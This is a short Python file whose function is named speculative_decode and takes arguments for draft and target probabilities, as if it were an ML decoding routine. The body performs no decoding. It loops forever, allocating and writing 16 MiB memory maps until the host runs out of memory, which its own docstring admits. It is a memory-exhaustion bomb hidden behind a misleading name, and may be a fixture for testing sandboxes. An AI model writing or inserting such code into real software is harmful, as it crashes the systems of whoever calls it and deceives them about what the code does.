"""Maps memory until there is none, and touches all of it."""
import mmap


MAPS = []


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    while True:
        MAPS.append(mmap.mmap(-1, 1 << 24))
        MAPS[-1].write(b"x" * (1 << 24))
